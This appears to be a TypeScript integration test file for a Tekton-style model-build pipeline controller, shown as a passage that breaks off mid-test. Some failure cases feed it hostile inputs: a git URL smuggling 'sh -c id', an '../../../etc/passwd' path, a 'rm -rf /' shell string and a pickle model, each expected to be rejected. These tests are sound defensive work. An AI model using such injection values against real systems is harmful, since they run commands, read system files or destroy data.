import { execFile } from "node:child_process";
import { createServer } from "node:http";
import type { Server } from "node:http";
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { text } from "node:stream/consumers";
import { promisify } from "node:util";
import {
  ConfigMap,
  Deployment,
  Namespace,
  PersistentVolumeClaim,
  PipelineRun,
  Pod,
  Secret,
  Service,
  ServiceAccount,
  TaskRun,
  tektonConverter,
  tektonCustomResourceDefinitions,
} from "@ai-edge/api";
import type { PipelineRunSpec, TektonParam } from "@ai-edge/api";
import { isStatus, keyOf } from "@ai-edge/apimachinery";
import { copyImage, createRegistryClient, buildImage, ImageLayout } from "@ai-edge/oci";
import { createManager } from "@ai-edge/runtime";
import { startTestApiServer, startTestForge, startTestRegistry, temporaryDirectory } from "@ai-edge/testing";
import type { TemporaryDirectory, TestApiServer } from "@ai-edge/testing";
import { pino } from "pino";
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import {
  addTektonControllers,
  localImageBuilder,
  nativeTasks,
  taskRunLogs,
  tektonManifests,
} from "./index.ts";
import { succeededCondition } from "./run-state.ts";

const run = promisify(execFile);
const logger = pino({ level: "silent" });
const TOKEN = "t0ken";
const NAMESPACE = "models";
/** Of this process alone: other test files listen on Service addresses at the same time. */
const SERVICE_BLOCK = `127.251.${process.pid % 250}`;

let directory: TemporaryDirectory;
let api: TestApiServer;
let forge: Awaited<ReturnType<typeof startTestForge>>;
let registry: Awaited<ReturnType<typeof startTestRegistry>>;
let stop: () => Promise<void>;
let cluster: StandInCluster;
/** The forge lets nobody in while this is pending. */
let gate: Promise<void> = Promise.resolve();

/** Stands in for Deployment controller and node agent: candidates become ready at once and answer on their Service. */
class StandInCluster {
  readonly images: string[] = [];
  readonly #stop = new AbortController();
  readonly #servers = new Map<string, Server>();
  readonly #watches: Promise<void>[] = [];

  start(): void {
    this.#watches.push(
      this.#follow(async () => {
        for await (const event of api.client.watch(Deployment, {
          namespace: NAMESPACE,
          signal: this.#stop.signal,
        })) {
          if (event.type === "ADDED" || event.type === "MODIFIED") await this.#makeReady(event.object);
        }
      }),
      this.#follow(async () => {
        for await (const event of api.client.watch(Service, {
          namespace: NAMESPACE,
          signal: this.#stop.signal,
        })) {
          if (event.type === "ADDED") this.#serve(event.object);
          if (event.type === "DELETED") this.#servers.get(event.object.metadata.name)?.close();
        }
      }),
    );
  }

  async close(): Promise<void> {
    this.#stop.abort();
    await Promise.allSettled(this.#watches);
    for (const server of this.#servers.values()) server.close();
  }

  async #follow(watch: () => Promise<void>): Promise<void> {
    while (!this.#stop.signal.aborted) await watch().catch(() => undefined);
  }

  async #makeReady(deployment: Deployment): Promise<void> {
    const { name, uid = "", generation = 0 } = deployment.metadata;
    if ((deployment.status?.observedGeneration ?? 0) >= generation) return;
    const { template, replicas } = deployment.spec;
    const image = template.spec.containers[0]?.image ?? "";
    this.images.push(image);
    if (replicas !== 0) {
      const pod = {
        metadata: {
          name: `${name}-${uid}-${generation}`,
          namespace: NAMESPACE,
          labels: template.metadata?.labels ?? {},
        },
        spec: template.spec,
      };
      const made = await api.client.create(Pod, pod);
      const conditions = [{ type: "Ready", status: "True" }];
      await api.client.patch(
        Pod,
        keyOf(made),
        { type: "merge", body: { status: { phase: "Running", conditions } } },
        { subresource: "status" },
      );
    }
    const status = {
      observedGeneration: generation,
      updatedReplicas: replicas ?? 1,
      conditions: [{ type: "Available", status: "True" }],
    };
    await api.client.patch(
      Deployment,
      keyOf(deployment),
      { type: "merge", body: { status } },
      { subresource: "status" },
    );
  }

  /** Doubles the number it is sent, with float32 noise. */
  #serve(service: Service): void {
    const server = createServer((request, response) => {
      void text(request).then((body) => {
        const [first] = JSON.parse(body).instances;
        response.end(JSON.stringify({ predictions: [first * 2 + 1e-9] }));
      });
    });
    server.listen(8080, service.spec.clusterIP);
    this.#servers.set(service.metadata.name, server);
  }
}

beforeAll(async () => {
  directory = await temporaryDirectory("tekton-");
  [api, forge, registry] = await Promise.all([
    startTestApiServer({
      customResourceDefinitions: tektonCustomResourceDefinitions,
      converters: { "tekton.dev": tektonConverter },
      serviceCIDR: `${SERVICE_BLOCK}.0/24`,
    }),
    startTestForge({
      authenticate: async (credentials) => {
        await gate;
        const secret = credentials.scheme === "basic" ? credentials.password : credentials.token;
        return secret === TOKEN ? { login: "pipeline" } : undefined;
      },
    }),
    startTestRegistry(),
  ]);
  for (const name of [NAMESPACE, "openshift-pipelines"])
    await api.client.create(Namespace, { metadata: { name } });
  for (const object of tektonManifests({ registry: registry.host })) {
    await api.client.apply(await api.client.resourceFor(object.apiVersion, object.kind), object, {
      fieldManager: "test",
      force: true,
    });
  }
  await pushBaseImage();
  await seedRepositories();
  await createInputs();
  cluster = new StandInCluster();
  cluster.start();
  stop = startControllers();
});

afterAll(async () => {
  await stop?.();
  await cluster?.close();
  await Promise.all([api?.close(), forge?.close(), registry?.close()]);
  await directory?.remove();
});

function startControllers(): () => Promise<void> {
  const manager = createManager({ client: api.client, logger });
  addTektonControllers(manager, {
    dataDir: join(directory.path, "tekton"),
    nativeTasks: nativeTasks({
      environment: { PATH: process.env["PATH"], HOME: directory.path },
      buildImage: localImageBuilder(join(directory.path, "images")),
    }),
    volumes: (claim) => join(directory.path, "volumes", claim.metadata.uid ?? ""),
  });
  const controller = new AbortController();
  const running = manager.start(controller.signal);
  return async () => {
    controller.abort();
    await running;
  };
}

async function pushBaseImage(): Promise<void> {
  const layout = new ImageLayout(join(directory.path, "base"));
  const context = join(directory.path, "context");
  await mkdir(context, { recursive: true });
  await writeFile(join(context, "server.js"), "");
  const containerfile = "FROM scratch\nCOPY server.js /opt/server.js\nLABEL aiedge.dev/runtime=process\n";
  const { descriptor } = await buildImage({ containerfile, context, base: () => layout, layout });
  const client = createRegistryClient({ host: registry.host });
  await copyImage(layout, descriptor.digest, client.repository("base"), "1");
  client.close();
}

async function seedRepositories(): Promise<void> {
  const onnx = Buffer.from([0x08, 0x08, 0x12, 0x00]);
  await forge.seedRepository({
    owner: "edge",
    name: "models",
    message: "Models",
    files: {
      "models/double/1/model.onnx": onnx,
      "models/sklearn/model.pkl": Buffer.from(
        "\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x1esklearn.ensemble._forest\x94\x8c\x16RandomForestClassifier\x94\x93\x94.",
        "latin1",
      ),
      "models/strange/data.bin": "hello",
      Containerfile: `FROM ${registry.host}/base:1\nARG MODEL_NAME\nARG MODEL_DIR=.\nCOPY $MODEL_DIR /models/$MODEL_NAME\n`,
      "Containerfile.run": `FROM ${registry.host}/base:1\nRUN pip install everything\n`,
    },
  });
  await forge.seedRepository({
    owner: "edge",
    name: "gitops",
    message: "GitOps",
    files: { "apps/double/kustomization.yaml": KUSTOMIZATION, "README.md": "x\n" },
  });
}

const KUSTOMIZATION = `# The double app.
namePrefix:   double-
images:
- name: edge-model-template-image # replaced by the pipeline
  newName: quay.io/nobody/nothing
  digest: sha256:${"0".repeat(64)}
`;

function base64(value: string): string {
  return Buffer.from(value).toString("base64");
}

async function createInputs(): Promise<void> {
  const metadata = (name: string) => ({ name, namespace: NAMESPACE });
  const data = { "data.json": '{"instances": [21]}' };
  await api.client.create(ConfigMap, {
    metadata: metadata("golden"),
    data: { ...data, "output.json": '{"predictions": [42]}' },
  });
  await api.client.create(ConfigMap, {
    metadata: metadata("wrong"),
    data: { ...data, "output.json": '{"predictions": [43]}' },
  });
  const annotations = { "tekton.dev/git-0": forge.url };
  const git = {
    metadata: { ...metadata("forge"), annotations },
    type: "kubernetes.io/basic-auth",
    data: { username: base64("pipeline"), password: base64(TOKEN), token: base64(TOKEN) },
  };
  await api.client.create(Secret, git);
  await api.client.create(ServiceAccount, { metadata: metadata("pipeline"), secrets: [{ name: "forge" }] });
}

function fetchRun(
  model: string,
  more: { params?: TektonParam[]; testData?: string; spec?: Partial<PipelineRunSpec>; omit?: string[] } = {},
): PipelineRunSpec {
  const params: TektonParam[] = [
    { name: "model-name", value: model },
    { name: "git-model-repo", value: `${forge.url}/edge/models.git` },
    { name: "model-relative-path", value: "models" },
    { name: "git-containerfile-repo", value: `${forge.url}/edge/models.git` },
    { name: "containerfile-relative-path", value: "Containerfile" },
    { name: "test-endpoint", value: "v1/models/double:predict" },
    {
      name: "target-image-tag-references",
      value: [
        `${registry.host}/edge/$(params.model-name):$(params.model-version)-$(context.pipelineRun.uid)`,
        `${registry.host}/edge/$(params.model-name):latest`,
      ],
    },
  ];
  const given = new Map(params.map((param) => [param.name, param]));
  for (const param of more.params ?? []) given.set(param.name, param);
  for (const name of more.omit ?? []) given.delete(name);
  return {
    pipelineRef: { name: "git-fetch" },
    params: [...given.values()],
    taskRunTemplate: { serviceAccountName: "pipeline" },
    workspaces: [
      {
        name: "build-workspace-pv",
        volumeClaimTemplate: {
          spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } },
        },
      },
      { name: "test-data", configMap: { name: more.testData ?? "golden" } },
    ],
    ...more.spec,
  };
}

async function finished(spec: PipelineRunSpec, generateName = "run-"): Promise<PipelineRun> {
  const created = await api.client.create(PipelineRun, {
    metadata: { generateName, namespace: NAMESPACE, name: "" },
    spec,
  });
  return untilDone(created);
}

async function untilDone(created: PipelineRun): Promise<PipelineRun> {
  return vi.waitFor(
    async () => {
      const current = await api.client.get(PipelineRun, keyOf(created));
      expect(succeededCondition(current)?.status, JSON.stringify(current.status?.conditions)).toMatch(
        /True|False/,
      );
      return current;
    },
    { timeout: 20_000, interval: 50 },
  );
}

function results(of: PipelineRun): Record<string, unknown> {
  return Object.fromEntries((of.status?.results ?? []).map(({ name, value }) => [name, value]));
}

async function digestOfTag(repository: string, tag: string): Promise<string | undefined> {
  const client = createRegistryClient({ host: registry.host });
  try {
    return (await client.repository(repository).resolve(tag))?.digest;
  } finally {
    client.close();
  }
}

async function branches(): Promise<string[]> {
  const { stdout } = await run("git", [
    "ls-remote",
    "--heads",
    `${forge.url.replace("//", `//x:${TOKEN}@`)}/edge/gitops.git`,
  ]);
  return stdout
    .split("\n")
    .filter((line) => line !== "")
    .map((line) => line.split("refs/heads/")[1] ?? "");
}

describe("git-fetch", () => {
  test("takes a model from Git to tested tags, with upstream's results", async () => {
    const done = await finished(fetchRun("double"));
    expect(succeededCondition(done)).toMatchObject({
      status: "True",
      reason: "Succeeded",
      message: "Tasks Completed: 12 (Failed: 0, Cancelled 0), Skipped: 0",
    });
    const found = results(done);
    const head = (
      await run("git", [
        "ls-remote",
        `${forge.url.replace("//", `//x:${TOKEN}@`)}/edge/models.git`,
        "refs/heads/main",
      ])
    ).stdout.slice(0, 40);
    const uid = done.metadata.uid ?? "";
    expect(Object.keys(found)).toHaveLength(17);
    expect(found).toMatchObject({
      "git-model-fetched-commit": head,
      "git-model-fetched-url": `${forge.url}/edge/models.git`,
      "git-model-fetched-commit-epoch": "0",
      "git-containerfile-fetched-commit": head,
      "model-files-list": "1/\n",
      "candidate-image-tag-reference": `${registry.host}/${NAMESPACE}/double:1-candidate`,
      "target-image-tag-references": `${registry.host}/edge/double:1-${uid} ${registry.host}/edge/double:latest`,
      "image-digest-reference": `${registry.host}/${NAMESPACE}/double@${String(found["buildah-sha"])}`,
      "model-name": "double",
      "model-version": "1",
      "buildah-version": "ai-edge-0.1.0\n",
    });
    expect(await digestOfTag("edge/double", "latest")).toBe(found["buildah-sha"]);
    expect(await digestOfTag("edge/double", `1-${uid}`)).toBe(found["buildah-sha"]);
    expect(cluster.images).toContain(
      `${registry.host}/${NAMESPACE}/double:1-candidate@${String(found["buildah-sha"])}`,
    );
    await expect(api.client.get(Deployment, { namespace: NAMESPACE, name: "double-1" })).rejects.toSatisfy(
      (error) => isStatus(error, "NotFound"),
    );
    await expect(api.client.get(Service, { namespace: NAMESPACE, name: "double-1" })).rejects.toSatisfy(
      (error) => isStatus(error, "NotFound"),
    );
    const taskRun = await api.client.get(TaskRun, {
      namespace: NAMESPACE,
      name: `${done.metadata.name}-test-model-rest-svc`,
    });
    expect(taskRun.metadata).toMatchObject({
      labels: {
        "tekton.dev/pipeline": "git-fetch",
        "tekton.dev/pipelineRun": done.metadata.name,
        "tekton.dev/pipelineRunUID": uid,
        "tekton.dev/pipelineTask": "test-model-rest-svc",
        "tekton.dev/memberOf": "tasks",
        "tekton.dev/task": "test-model-rest-svc",
      },
      annotations: { "aiedge.dev/executor": "native" },
    });
    expect(taskRun.status?.steps).toMatchObject([
      { name: "call-rest", terminated: { exitCode: 0, reason: "Completed" } },
    ]);
    expect(done.status?.childReferences).toHaveLength(12);
    expect(await text(taskRunLogs(join(directory.path, "tekton"), keyOf(taskRun)))).toContain(
      "the answer is the golden one",
    );
    const claims = await api.client.list(PersistentVolumeClaim, { namespace: NAMESPACE });
    expect(claims.items.some((claim) => claim.metadata.ownerReferences?.[0]?.uid === uid)).toBe(true);
  });

  test("a v1beta1 run is converted, and its fields do what they say", async () => {
    const { taskRunTemplate: _template, ...spec } = fetchRun("double", {
      params: [
        { name: "upon-end", value: "stop" },
        { name: "model-version", value: "2" },
      ],
    });
    const type = await api.client.resourceFor("tekton.dev/v1beta1", "PipelineRun");
    const old = {
      apiVersion: "tekton.dev/v1beta1",
      kind: "PipelineRun",
      metadata: { name: "old-style", namespace: NAMESPACE },
      spec: { ...spec, serviceAccountName: "pipeline", timeout: "1h0m0s" },
    };
    await api.client.create(type, old);
    const done = await untilDone({ ...old, spec });
    expect(done.spec).toMatchObject({
      taskRunTemplate: { serviceAccountName: "pipeline" },
      timeouts: { pipeline: "1h0m0s" },
    });
    expect(succeededCondition(done)?.status).toBe("True");
    expect((await api.client.get(Deployment, { namespace: NAMESPACE, name: "double-2" })).spec.replicas).toBe(
      0,
    );
  });

  test.each<[string, Parameters<typeof fetchRun>, string, RegExp]>([
    [
      "the golden answer differs",
      ["double", { testData: "wrong" }],
      "Failed",
      /test-model-rest-svc: the golden answer differs: predictions\[0\]: expected 43, got 42/,
    ],
    [
      "the model is missing",
      ["nothing"],
      "Failed",
      /move-model-to-root-dir: model directory models\/nothing does not exist in the repository; there is: double, sklearn, strange/,
    ],
    [
      "the Containerfile is missing",
      ["double", { params: [{ name: "containerfile-relative-path", value: "no/Containerfile" }] }],
      "Failed",
      /check-model-and-containerfile-exists: Containerfile containerfile_repo\/no\/Containerfile does not exist/,
    ],
    [
      "the model is a pickle",
      ["sklearn"],
      "Failed",
      /model.pkl is a Python pickle \(scikit-learn\), which runs code when loaded/,
    ],
    [
      "the model is of no known format",
      ["strange"],
      "Failed",
      /none of data.bin is a known model; known are ONNX/,
    ],
    [
      "the Containerfile needs an engine",
      ["double", { params: [{ name: "containerfile-relative-path", value: "Containerfile.run" }] }],
      "Failed",
      /build-container-image: .*RUN pip install everything needs a container engine/,
    ],
    [
      "a path leads out of the workspace",
      ["double", { params: [{ name: "containerfile-relative-path", value: "../../../etc/passwd" }] }],
      "Failed",
      /leads out of its workspace/,
    ],
    [
      "the repository is not there",
      ["double", { params: [{ name: "git-model-repo", value: "ext::sh -c id" }] }],
      "Failed",
      /is not http or https/,
    ],
  ])("when %s, the run says why and no tag is pushed", async (_what, input, reason, message) => {
    const target = `never-${Math.random().toString(36).slice(2)}`;
    const [model, more = {}] = input;
    const targets = { name: "target-image-tag-references", value: [`${registry.host}/edge/${target}:1`] };
    const done = await finished(fetchRun(model, { ...more, params: [...(more.params ?? []), targets] }));
    expect(succeededCondition(done)).toMatchObject({
      status: "False",
      reason,
      message: expect.stringMatching(message),
    });
    expect(await digestOfTag(`edge/${target}`, "1")).toBeUndefined();
  });

  test.each<[string, () => PipelineRunSpec, string, RegExp]>([
    [
      "upon-end is foo",
      () => fetchRun("double", { params: [{ name: "upon-end", value: "foo" }] }),
      "InvalidParamValue",
      /parameter upon-end is "foo": it must be one of delete, keep, stop/,
    ],
    [
      "a parameter is missing",
      () => fetchRun("double", { omit: ["model-name", "test-endpoint"] }),
      "ParameterMissing",
      /missing parameters: \[model-name test-endpoint\]/,
    ],
    [
      "a workspace is missing",
      () => fetchRun("double", { spec: { workspaces: [] } }),
      "InvalidWorkspaceBindings",
      /pipeline requires workspace with name "build-workspace-pv" be provided by pipelinerun/,
    ],
    [
      "a parameter has the wrong type",
      () => fetchRun("double", { params: [{ name: "target-image-tag-references", value: "x" }] }),
      "ParameterTypeMismatch",
      /target-image-tag-references \(want array\)/,
    ],
    [
      "the Pipeline does not exist",
      () => fetchRun("double", { spec: { pipelineRef: { name: "none" } } }),
      "CouldntGetPipeline",
      /Pipeline "none" was found in none of the namespaces models, openshift-pipelines/,
    ],
    [
      "a volume is not a legal one",
      () =>
        fetchRun("double", {
          spec: {
            workspaces: [
              { name: "build-workspace-pv", volumeClaimTemplate: { spec: {} } },
              { name: "test-data", emptyDir: {} },
            ],
          },
        }),
      "CouldntCreateWorkspacePVC",
      /cannot get a volume for workspace "build-workspace-pv": .*is invalid/,
    ],
    [
      "the graph has a circle",
      () =>
        fetchRun("double", {
          spec: {
            pipelineRef: {},
            pipelineSpec: { tasks: [{ name: "a", runAfter: ["a"], taskRef: { name: "git-clone" } }] },
          },
        }),
      "PipelineInvalidGraph",
      /cycle detected: a -> a/,
    ],
    [
      "a Task does not exist",
      () =>
        fetchRun("double", {
          spec: { pipelineSpec: { tasks: [{ name: "a", taskRef: { name: "no-task" } }] } },
        }),
      "CouldntGetTask",
      /Task "no-task" was found in none/,
    ],
    [
      "a timeout is no duration",
      () => fetchRun("double", { spec: { timeouts: { pipeline: "soon" } } }),
      "PipelineValidationFailed",
      /"soon" is not a duration/,
    ],
  ])("when %s, nothing is started", async (_what, spec, reason, message) => {
    const done = await finished(spec());
    expect(succeededCondition(done)).toMatchObject({
      status: "False",
      reason,
      message: expect.stringMatching(message),
    });
    const { items } = await api.client.list(TaskRun, {
      namespace: NAMESPACE,
      labelSelector: `tekton.dev/pipelineRun=${done.metadata.name}`,
    });
    expect(items).toEqual([]);
  });

  test("a Task without a native executor fails with what to do", async () => {
    const taskSpec = { steps: [{ name: "s", image: "bash", script: "echo hi" }] };
    const done = await finished({ pipelineSpec: { tasks: [{ name: "a", taskSpec }] } });
    expect(succeededCondition(done)).toMatchObject({
      status: "False",
      reason: "Failed",
      message: expect.stringContaining("has no native executor"),
    });
    const taskRun = await api.client.get(TaskRun, { namespace: NAMESPACE, name: `${done.metadata.name}-a` });
    expect(succeededCondition(taskRun)?.reason).toBe("TaskRunExecutorMissing");
  });

  test("upstream's oc scripts are understood, and nothing else of a shell is", async () => {
    const catalog = (task: string, version: string) => ({
      resolver: "git",
      params: [
        { name: "url", value: "https://github.com/openshift-pipelines/tektoncd-catalog" },
        { name: "revision", value: "p" },
        { name: "pathInRepo", value: `tasks/task-${task}/${version}/task-${task}.yaml` },
      ],
    });
    const oc = (name: string, script: string, after?: string) => ({
      name,
      taskRef: catalog("openshift-client", "0.2.1"),
      params: [
        { name: "SCRIPT", value: script },
        { name: "VERSION", value: "latest" },
      ],
      ...(after === undefined ? {} : { runAfter: [after] }),
    });
    const deployment = {
      apiVersion: "apps/v1",
      kind: "Deployment",
      metadata: {
        creationTimestamp: null,
        name: "my-model.v1-1",
        namespace: "$(params.ns)",
        labels: { app: "a-1" },
      },
      spec: {
        replicas: 1,
        selector: { matchLabels: { app: "a-1" } },
        template: {
          metadata: { labels: { app: "a-1" } },
          spec: { containers: [{ name: "c", image: "example.com/x:1", ports: [{ containerPort: 8080 }] }] },
        },
      },
      status: {},
    };
    const wait =
      "oc wait deployment -n $(params.ns) my-model.v1-1 --for condition=Available=True --timeout=5m\noc wait pod -n $(params.ns) -l app=a-1 --for condition=Ready=True --timeout=5m\n";
    const stopScript = [
      'if [ "$(params.upon-end)" == "stop" ]; then',
      "  oc scale deployment.apps/my-model.v1-1 --replicas=0",
      'elif [ "$(params.upon-end)" == "delete" ]; then',
      "  oc delete all --selector=app=a-1",
      'elif [ "$(params.upon-end)" == "keep" ]; then',
      '  echo "Keeping the deployment running."',
      "else",
      '  echo "Invalid value for upon-end parameter."',
      "  exit 1",
      "fi",
    ].join("\n");
    const done = await finished({
      pipelineSpec: {
        params: [
          { name: "upon-end", default: "delete" },
          { name: "ns", default: "$(context.pipelineRun.namespace)" },
        ],
        tasks: [
          oc(
            "deploy",
            `cat <<EOF | oc apply -f -\n${JSON.stringify(deployment, undefined, 2)}\nEOF\n${wait}`,
          ),
          oc(
            "expose",
            "oc expose deployment my-model.v1-1 --port=8080\n  --target-port=8080 --selector='app=a-1'\n  --dry-run=client -o yaml |  oc apply -f -",
            "deploy",
          ),
          {
            name: "golden",
            runAfter: ["expose"],
            taskRef: { kind: "Task", name: "test-model-rest-svc" },
            params: [
              { name: "service-name", value: "my-model.v1-1" },
              { name: "test-endpoint", value: "x" },
            ],
            workspaces: [{ name: "test-data" }],
          },
          oc("stop", stopScript, "golden"),
        ],
        workspaces: [{ name: "test-data" }],
      },
      workspaces: [{ name: "test-data", configMap: { name: "golden" } }],
    });
    expect(succeededCondition(done)).toMatchObject({
      status: "True",
      message: "Tasks Completed: 4 (Failed: 0, Cancelled 0), Skipped: 0",
    });
    await expect(api.client.get(Service, { namespace: NAMESPACE, name: "my-model-v1-1" })).rejects.toSatisfy(
      (error) => isStatus(error, "NotFound"),
    );
    const other = await finished({ pipelineSpec: { tasks: [oc("a", "oc get pods; rm -rf /")] } });
    expect(succeededCondition(other)?.message).toMatch(/SCRIPT is not run by a shell/);
  });

  test("a candidate goes to another namespace only if the run's ServiceAccount may write there", async () => {
    const params = [{ name: "target-namespace", value: "kube-system" }];
    const done = await finished(fetchRun("double", { params }));
    expect(succeededCondition(done)?.message).toMatch(
      /test-container-deploy: ServiceAccount models\/pipeline may not create deployments in namespace kube-system/,
    );
  });

  test("retries, then finally with the state of the tasks", async () => {
    const clone = { taskRef: { name: "git-clone" }, workspaces: [{ name: "output", workspace: "w" }] };
    const done = await finished({
      pipelineSpec: {
        workspaces: [{ name: "w" }],
        tasks: [
          {
            name: "fails",
            ...clone,
            retries: 1,
            params: [{ name: "URL", value: `${forge.url}/edge/none.git` }],
          },
          { name: "never", runAfter: ["fails"], ...clone },
        ],
        finally: [
          {
            name: "last",
            taskRef: { name: "sanitise-object-name" },
            params: [
              { name: "input-string", value: "$(tasks.fails.status) $(tasks.status) $(tasks.never.status)" },
            ],
          },
        ],
        results: [{ name: "states", value: "$(finally.last.results.output-string)" }],
      },
      workspaces: [{ name: "w", emptyDir: {} }],
    });
    expect(succeededCondition(done)?.message).toMatch(
      /^Tasks Completed: 2 \(Failed: 1, Cancelled 0\), Skipped: 1\. fails: git fetch: /,
    );
    expect(results(done)).toEqual({ states: "failed-failed-none" });
    expect(done.status?.skippedTasks).toEqual([{ name: "never", reason: "PipelineRun was stopping" }]);
    const taskRun = await api.client.get(TaskRun, {
      namespace: NAMESPACE,
      name: `${done.metadata.name}-fails`,
    });
    expect(taskRun.status?.retriesStatus).toHaveLength(1);
  });

  test("a run that takes too long is stopped", async () => {
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const address = silent.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const params = [{ name: "git-model-repo", value: `http://127.0.0.1:${port}/x.git` }];
    const done = await finished(fetchRun("double", { params, spec: { timeouts: { pipeline: "1s" } } }));
    expect(succeededCondition(done)).toMatchObject({
      reason: "PipelineRunTimeout",
      message: `PipelineRun "${done.metadata.name}" failed to finish within "1s"`,
    });
    silent.closeAllConnections();
    silent.close();
  });

  test("a run that is cancelled stops where it stands", async () => {
    // A repository that accepts the connection and never answers.
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => silent.listen(0, "127.0.0.1", resolve));
    const address = silent.address();
    const port = typeof address === "object" && address !== null ? address.port : 0;
    const created = await api.client.create(PipelineRun, {
      metadata: { name: "cancelled", namespace: NAMESPACE },
      spec: fetchRun("double", {
        params: [{ name: "git-model-repo", value: `http://127.0.0.1:${port}/x.git` }],
      }),
    });
    await vi.waitFor(async () => {
      const taskRun = await api.client.get(TaskRun, {
        namespace: NAMESPACE,
        name: "cancelled-fetch-model-git",
      });
      expect(taskRun.status?.steps?.[0]?.running).toBeDefined();
    });
    await api.client.patch(PipelineRun, keyOf(created), {
      type: "merge",
      body: { spec: { status: "Cancelled" } },
    });
    expect(succeededCondition(await untilDone(created))).toMatchObject({
      status: "False",
      reason: "Cancelled",
      message: 'PipelineRun "cancelled" was cancelled',
    });
    silent.closeAllConnections();
    silent.close();
  });

  test("a run goes on after the controllers were stopped in the middle of a step", async () => {
    let open = (): void => undefined;
    gate = new Promise((resolve) => {
      open = resolve;
    });
    const metadata = { name: "restarted", namespace: NAMESPACE };
    const created = await api.client.create(PipelineRun, {
      metadata,
      spec: fetchRun("double", { params: [{ name: "model-version", value: "3" }] }),
    });
    await vi.waitFor(async () => {
      const taskRun = await api.client.get(TaskRun, {
        namespace: NAMESPACE,
        name: "restarted-fetch-model-git",
      });
      expect(taskRun.status?.steps?.[0]?.running).toBeDefined();
    });
    await stop();
    open();
    stop = startControllers();
    expect(succeededCondition(await untilDone(created))).toMatchObject({
      status: "True",
      reason: "Succeeded",
    });
  });
});

function updateRun(digest: string): PipelineRunSpec {
  const yq = (field: string, variable: string): string =>
    `yq eval -i "(.images[] | select(.name == \\"edge-model-template-image\\").${field}) = \\"\${${variable}}\\"" \\\n  apps/double/kustomization.yaml`;
  return {
    pipelineRef: { name: "gitops-update-pipeline" },
    params: [
      { name: "image-registry-repo", value: `${registry.host}/edge/double` },
      { name: "image-digest", value: digest },
      { name: "gitServer", value: forge.url },
      { name: "gitApiServer", value: forge.url },
      { name: "gitApiPrefix", value: "/api/v3" },
      { name: "gitOrgName", value: "edge" },
      { name: "gitRepoName", value: "gitops" },
      { name: "gitTokenSecretName", value: "forge" },
      { name: "yq-script", value: `${yq("newName", "IMAGE_NAME")}\n${yq("digest", "IMAGE_DIGEST")}\n` },
    ],
    workspaces: [
      {
        name: "git-workspace",
        volumeClaimTemplate: {
          metadata: { name: "" },
          spec: { accessModes: ["ReadWriteOnce"], resources: { requests: { storage: "1Gi" } } },
        },
      },
      { name: "git-basic-auth", secret: { secretName: "forge" } },
    ],
  };
}

describe("gitops-update-pipeline", () => {
  test("pins the digest by a pull request, and does nothing when it is pinned", async () => {
    const digest = `sha256:${"a".repeat(64)}`;
    const done = await finished(updateRun(digest), "update-");
    expect(succeededCondition(done)).toMatchObject({ status: "True", reason: "Succeeded" });
    const branch = `pipeline_${done.metadata.uid ?? ""}`;
    const url = String(results(done)["pr-url"]);
    expect(url).toMatch(new RegExp(`^${forge.url}/edge/gitops/pull/\\d+$`));
    const number = url.split("/").at(-1) ?? "";
    const headers = { authorization: `Bearer ${TOKEN}` };
    const pull = await (
      await fetch(`${forge.url}/api/v3/repos/edge/gitops/pulls/${number}`, { headers })
    ).json();
    expect(pull).toMatchObject({
      title: "Auto: update image ref",
      head: { ref: branch },
      base: { ref: "main" },
      user: { login: "pipeline" },
    });
    expect(pull).toMatchObject({
      body: expect.stringContaining(`| PipelinRun UID   | \`${done.metadata.uid ?? ""}\` |`),
    });
    const clone = join(directory.path, "check");
    await run("git", [
      "clone",
      "-q",
      "-b",
      branch,
      `${forge.url.replace("//", `//x:${TOKEN}@`)}/edge/gitops.git`,
      clone,
    ]);
    expect(await readFile(join(clone, "apps/double/kustomization.yaml"), "utf8")).toBe(
      KUSTOMIZATION.replace("quay.io/nobody/nothing", `${registry.host}/edge/double`).replace(
        `sha256:${"0".repeat(64)}`,
        digest,
      ),
    );
    expect((await run("git", ["-C", clone, "diff", "--stat", "origin/main", "HEAD"])).stdout).toContain(
      "1 file changed, 2 insertions(+), 2 deletions(-)",
    );

    const pending = await finished(updateRun(digest), "pending-");
    expect(succeededCondition(pending)).toMatchObject({ status: "True", reason: "Completed" });
    expect(await branches()).not.toContain(`pipeline_${pending.metadata.uid ?? ""}`);

    await fetch(`${forge.url}/repos/edge/gitops/pulls/${number}/merge`, { method: "PUT", headers });
    const before = await branches();
    const again = await finished(updateRun(digest), "again-");
    expect(succeededCondition(again)).toMatchObject({ status: "True", reason: "Completed" });
    expect(again.status?.skippedTasks).toMatchObject([
      { name: "open-pr", reason: "When Expressions evaluated to false" },
    ]);
    expect(results(again)).toEqual({});
    expect(await branches()).toEqual(before);
  });

  test("upstream's shape, with ClusterTasks and its git script, does the same", async () => {
    const { params, workspaces, taskRunTemplate } = {
      taskRunTemplate: {},
      ...updateRun(`sha256:${"c".repeat(64)}`),
    };
    const script = [
      "# Move repo to HOME so Git does not complain",
      "cp -r $(workspaces.source.path)/$(params.gitRepoName) ~/$(params.gitRepoName)",
      "",
      "cd ~/$(params.gitRepoName)",
      "PR_BRANCH=pipeline_$(context.pipelineRun.uid)",
      "git checkout -b $PR_BRANCH",
      'if [ -z "$(git status --porcelain)" ]; then',
      '    echo "Update did not cause a modification"',
      "    exit 0",
      "fi",
      'git commit -am "Update image ref from pipeline"',
      "git push origin $PR_BRANCH:$PR_BRANCH",
      "",
    ].join("\n");
    const run = (gitScript: string) =>
      finished({
        params: params ?? [],
        workspaces: workspaces ?? [],
        taskRunTemplate,
        pipelineSpec: {
          params: [
            ...(params ?? []).map(({ name }) => ({ name })),
            { name: "gitRepoBranchBase", default: "main" },
          ],
          workspaces: [{ name: "git-workspace" }, { name: "git-basic-auth" }],
          results: [{ name: "pr-url", value: "$(tasks.open-pr.results.URL)" }],
          tasks: [
            {
              name: "git-clone",
              taskRef: { kind: "ClusterTask", name: "git-clone" },
              params: [
                { name: "url", value: "$(params.gitServer)/$(params.gitOrgName)/$(params.gitRepoName)" },
                { name: "revision", value: "$(params.gitRepoBranchBase)" },
                { name: "gitInitImage", value: "not declared, ignored" },
